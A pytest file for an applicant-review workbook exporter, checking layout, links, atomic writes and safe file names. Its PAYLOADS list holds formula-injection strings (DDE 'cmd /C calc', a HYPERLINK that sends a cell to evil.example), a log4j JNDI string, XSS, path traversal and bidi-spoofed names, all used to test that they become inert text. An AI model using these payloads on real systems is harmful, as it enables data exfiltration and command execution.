"""The workbook: safe to open, complete, in the order of the eye, and linked to the evidence beside it."""

import io
import re
import stat
import zipfile

import pytest
from openpyxl import load_workbook
from PIL import Image

from hui_reg import durable
from hui_reg.history.decisions import Stage
from hui_reg.model import Leftover, Verdict
from hui_reg.review import columns, evidence
from hui_reg.review.batch import Picture, RuleLine
from hui_reg.review.sheets import workbook
from hui_reg.spreadsheets.cleaning import CELL_LIMIT, clean, file_name
from tests import builders
from tests.review import batch as people

SHEETS = ["说明", "审核表", "人工复核", "问题明细", "补正通知", "未归档文件", "识读依据", "规则", "选项"]

PAYLOADS = (
    *(f"{start}cmd|' /C calc'!A0" for start in "=+-@"),
    *(f"{lead}=1+1" for lead in ("\t", "\r", "\n", " ", "　", "\ufeff", "\u200b", "\x00", "'")),
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMAGE("http://evil.example/a.png")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=RTD(\"x\",\"\",\"y\")",
    "=INDIRECT(\"'\\\\evil\\share\\[a.xls]S'!A1\")",
    "='\\\\evil.example\\share\\[x.xlsx]S'!A1",
    "=DISPIMG(\"ID_1\",1)",
    "=_xlfn.FILTERXML(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "#REF!", "#N/A", "#DIV/0!", "TRUE", "1E5", "2024-01-01", "007", "350521199003070021",
    "_x0041_", "_x000D_", "_x005F_x0041_", "a\x01b\x02c\x1f", "\x7f\x80\x9f", "\ufffe\uffff",
    "\u202egpj.exe", "\u2066x\u2069", "\u2028\u2029",
    "<script>alert(1)</script>", "&lt;&amp;&#x41;", "]]>", "<![CDATA[x]]>",
    "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", '"><x y="', "&A&P", "{=1+1}", "{{7*7}}", "${jndi:ldap://x}",
    "%0A=1",
    "../../../etc/passwd", "..\\..\\x", "C:\\Windows\\x", "\\\\evil\\share", "CON", "nul.txt", "file:///etc/passwd",
    "http://evil.example", "mailto:x@example.com", "javascript:alert(1)", "A" * 40_000, "长" * 40_000, "😀" * 20_000,
    "林㛃𠮷", "阿依古丽·买买提", "[红]张三", "a\nb\r\nc", "",
)  # fmt: skip


def jpeg(size=(107, 150)):
    stream = io.BytesIO()
    Image.new("RGB", size, "white").save(stream, "JPEG")
    return Picture(stream.getvalue(), *size)


def full_batch(assessments, **more):
    mail = builders.message("补充")
    leftovers = [Leftover(file=builders.file(mail, "材料.zip/a.pdf"), reason="没有姓名", candidates=("张三",))]
    mails = [mail, *(m for a in assessments for m in a.dossier.messages)]
    return people.batch(
        assessments,
        leftovers=leftovers,
        messages=mails,
        evidence=evidence.plan(assessments, leftovers, mails),
        photos={a.dossier.key: jpeg() for a in assessments},
        crops={a.dossier.key: jpeg((700, 120)) for a in assessments},
        rules=[RuleLine("A101", "没有申报表", "correct", "报名材料1", "请补交申报表。")],
        **more,
    )


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    path = tmp_path_factory.mktemp("workbook") / "审核表.xlsx"
    batch = full_batch(people.people())
    with durable.replacing(path) as partial:
        workbook.write(partial, batch)
    return path, batch


def parts(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_sheets_stand_in_their_order_and_the_lists_are_hidden(written):
    book = load_workbook(written[0])
    assert book.sheetnames == SHEETS
    assert [s.title for s in book if s.sheet_state == "hidden"] == ["选项"]
    assert book.active.title == "审核表"
    assert stat.S_IMODE(written[0].stat().st_mode) == 0o600


def test_one_row_an_applicant_with_headings_of_the_table(written):
    path, batch = written
    sheet = load_workbook(path)[columns.SHEET]
    titles = [cell.value for cell in sheet[columns.HEADER_ROW]]
    assert titles == [c.title for c in columns.columns(Stage.FIRST)]
    assert titles[:4] == ["初审建议", "姓名", "照片", "证件号"]
    rows = list(sheet.iter_rows(min_row=columns.HEADER_ROW + 1, values_only=True))
    assert len(rows) == len(batch.assessments)
    assert {(r[1], r[3]) for r in rows} == {(a.dossier.name, a.dossier.id_number) for a in batch.assessments}
    assert {r[0] for r in rows} == {v.marked for v in Verdict}


def test_rows_go_unit_by_unit_and_those_to_look_at_first(written):
    rows = [
        (str(r[4]), str(r[0])) for r in load_workbook(written[0])[columns.SHEET].iter_rows(min_row=3, values_only=True)
    ]
    assert [unit for unit, _ in rows] == sorted(unit for unit, _ in rows)
    order = [v.marked for v in (Verdict.REVIEW, Verdict.CORRECT, Verdict.INELIGIBLE, Verdict.PASS)]
    assert rows == sorted(rows, key=lambda row: (row[0], order.index(row[1])))


def test_id_numbers_are_text_and_stay_whole(written):
    sheet = load_workbook(written[0])[columns.SHEET]
    for row in sheet.iter_rows(min_row=3):
        assert (row[3].data_type, row[3].number_format) == ("s", "@")


def test_decisions_come_from_a_list_by_range(written):
    seen, validation = load_workbook(written[0])[columns.SHEET].data_validations.dataValidation
    assert (validation.type, validation.showErrorMessage) == ("list", True)
    assert validation.formula1 == "'选项'!$A$1:$A$5"
    assert seen.formula1 == '"是"'


@pytest.mark.parametrize("stage", list(Stage))
def test_every_column_is_in_sight_on_the_screens_of_the_office(stage, tmp_path):
    """1366 pixels, less the numbers of the rows and the bar for scrolling."""
    workbook.write(tmp_path / "a.xlsx", people.batch(people.people(2), stage))
    sheet = load_workbook(tmp_path / "a.xlsx")[columns.SHEET]
    wide = sum(int(c.width * 7 + 5) for c in columns.columns(stage) if c.role is not columns.Role.HIDDEN)
    zoom = sheet.sheet_view.zoomScale or 100
    assert wide * zoom / 100 <= 1366 - 40 - 25
    assert zoom >= 75


def test_the_proposal_leads_to_the_person_in_the_album(tmp_path):
    members = people.people(2)
    places = {a.dossier.key: f"翻看/单位.html#r-{n}" for n, a in enumerate(members)}
    workbook.write(tmp_path / "a.xlsx", people.batch(members, albums=places))
    sheet = load_workbook(tmp_path / "a.xlsx")[columns.SHEET]
    links = [sheet.cell(row, 1).hyperlink for row in (3, 4)]
    assert sorted((link.target, link.location) for link in links) == [
        ("翻看/单位.html", "r-0"),
        ("翻看/单位.html", "r-1"),
    ]


def test_the_key_columns_are_hidden_and_the_sheet_is_frozen_filtered_and_set_up_to_print(written):
    sheet = load_workbook(written[0])[columns.SHEET]
    roles = [c.role is columns.Role.HIDDEN for c in columns.columns(Stage.FIRST)]
    spans = [(d.min, d.max) for d in sheet.column_dimensions.values() if d.hidden and d.min and d.max]
    hidden = {number for first, last in spans for number in range(first, last + 1)}
    assert hidden == {number for number, is_hidden in enumerate(roles, 1) if is_hidden}
    assert sheet.freeze_panes == "C3"
    assert sheet.auto_filter.ref.startswith("A2:")
    assert sheet.print_title_rows == "$2:$2"
    assert (sheet.page_setup.orientation, str(sheet.page_setup.paperSize)) == ("landscape", "9")
    assert sheet.protection.sheet is False


def test_links_are_relative_and_lead_to_planned_files(written):
    path, batch = written
    sheet = load_workbook(path)[columns.SHEET]
    targets = [cell.hyperlink.target for row in sheet.iter_rows(min_row=3) for cell in row if cell.hyperlink]
    places = {file.path for file in batch.evidence.files} | set(batch.evidence.folders.values())
    register = {target for target in targets if target.startswith("https://www.chsi.com.cn/xlcx/bg.do?vcode=")}
    assert register, "a click checks the record"
    assert targets and set(targets) - register <= places
    by_row = {row[3].value: row[7].hyperlink.target for row in sheet.iter_rows(min_row=3) if row[7].hyperlink}
    for assessment in batch.assessments:
        assert by_row[assessment.dossier.id_number].startswith(batch.evidence.folders[assessment.dossier.key])


def test_a_name_of_several_lines_leaves_its_link_to_the_number(tmp_path):
    """LibreOffice cuts a linked text that doesn't fit its column."""
    names = ("阿卜杜热合曼·阿卜杜克热木·麦麦提艾力", "阿依古丽·买买提", "欧阳子轩", "古丽")
    batch = full_batch([people.assessment(Verdict.PASS, name) for name in names])
    workbook.write(tmp_path / "a.xlsx", batch)
    sheet = load_workbook(tmp_path / "a.xlsx")[columns.SHEET]
    linked = {row[1].value: (bool(row[1].hyperlink), bool(row[3].hyperlink)) for row in sheet.iter_rows(min_row=3)}
    assert linked == {name: (len(name) < 5, len(name) > 5) for name in names}
    sizes = {row[1].value: row[1].font.size for row in sheet.iter_rows(min_row=3)}
    assert sizes == {names[0]: 9.5, names[1]: 9.5, names[2]: 11, names[3]: 11}


def test_pictures_are_anchored_to_two_cells(written):
    path, batch = written
    names = parts(path)
    drawings = [data.decode() for name, data in names.items() if name.startswith("xl/drawings/drawing")]
    assert len(drawings) == 2
    anchors = "".join(drawings).count("twoCellAnchor")
    looked_at = sum(a.verdict is Verdict.REVIEW for a in batch.assessments)
    assert anchors == 2 * (len(batch.assessments) + looked_at)


def test_nothing_of_the_kind_that_wps_trips_over(written):
    for name, data in parts(written[0]).items():
        assert "chart" not in name
        assert b"x14" not in data
        assert b"extLst" not in data


REGISTER = "https://www.chsi.com.cn/xlcx/bg.do?vcode=ABCD1234EFGH5678"
"""The one address outside that the record of every applicant here leads to."""


def assert_safe(path):
    for name, data in parts(path).items():
        assert "externalLink" not in name
        if name.startswith("xl/worksheets/sheet"):
            assert not re.search(rb"<(\w+:)?f[ >/]", data), name
        if name.endswith(".rels"):
            for target in re.findall(
                rb'Target="([^"]*)" TargetMode="External"|TargetMode="External"[^>]*Target="([^"]*)"', data
            ):
                link = (target[0] or target[1]).decode()
                if link == REGISTER:
                    continue
                assert link.startswith("evidence/"), link
                assert ":" not in link
                assert ".." not in link.split("/")


@pytest.mark.parametrize("stage", list(Stage))
def test_sixty_payloads_become_text(tmp_path, stage):
    assert len(PAYLOADS) >= 60
    assessments = []
    for number, payload in enumerate(PAYLOADS):
        base = people.assessment(list(Verdict)[number % 4], f"人{number}")
        mail = base.dossier.messages[0].model_copy(update={"subject": clean(payload)[:900]})
        exhibits = tuple(
            e.model_copy(
                update={"file": e.file.model_copy(update={"path": payload.encode("utf-8", "replace").decode()})}
            )
            for e in base.dossier.exhibits
        )
        nasty = {"name": payload, "unit": payload, "exhibits": exhibits, "messages": (mail,)}
        dossier = base.dossier.model_copy(update=nasty)
        findings = tuple(f.model_copy(update={"message": payload, "hint": payload}) for f in base.findings)
        assessments.append(base.model_copy(update={"dossier": dossier, "findings": findings}))
    path = tmp_path / "审核表.xlsx"
    workbook.write(path, full_batch(assessments, stage=stage))
    assert_safe(path)
    sheet = load_workbook(path)[columns.SHEET]
    shown = {row[1].value or "" for row in sheet.iter_rows(min_row=3)}
    assert {clean(p, 200) or columns.NO_NAME for p in PAYLOADS} == shown
    for row in sheet.iter_rows(min_row=3):
        assert all(cell.data_type in "sn" for cell in row)
        assert row[1].quotePrefix or not str(row[1].value or "").startswith(("=", "+", "-", "@"))


def test_a_failing_export_leaves_the_old_workbook(tmp_path, written):
    path = tmp_path / "审核表.xlsx"
    path.write_bytes(b"old")
    batch = people.batch(people.people(3), versions={})
    with pytest.raises(KeyError):
        workbook.write(path, batch)
    assert path.read_bytes() == b"old"


def test_an_empty_batch_is_a_workbook_too(tmp_path):
    workbook.write(tmp_path / "a.xlsx", people.batch([]))
    assert load_workbook(tmp_path / "a.xlsx").sheetnames == SHEETS


@pytest.mark.parametrize("text", (*PAYLOADS, "\ud800", "a\udfffb"))
def test_cleaning_is_idempotent_and_bounded(text):
    once = clean(text)
    assert clean(once) == once
    assert len(once.encode("utf-16-le")) // 2 <= CELL_LIMIT


@pytest.mark.parametrize("text", (*PAYLOADS, "\ud800", "a\udfffb"))
def test_file_names_are_valid_on_windows(text):
    name = file_name(text)
    assert file_name(name) == name
    assert 0 < len(name) <= 61
    assert not re.search(r'[<>:"/\\|?*\x00-\x1f#%]', name)
    assert name.strip(" .") == name
    assert name.split(".")[0].upper() not in {"CON", "NUL", "PRN", "AUX", "COM1", "LPT1"}
    name.encode("utf-8")


def test_no_half_written_sheet_is_left_anywhere(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "temporary"))
    (tmp_path / "temporary").mkdir()
    out = tmp_path / "out"
    (out / ".sheets-killed.partial").mkdir(parents=True)
    workbook.write(out / "a.xlsx", people.batch(people.people(3)))
    assert [p.name for p in out.iterdir()] == ["a.xlsx"]
    assert list((tmp_path / "temporary").iterdir()) == []
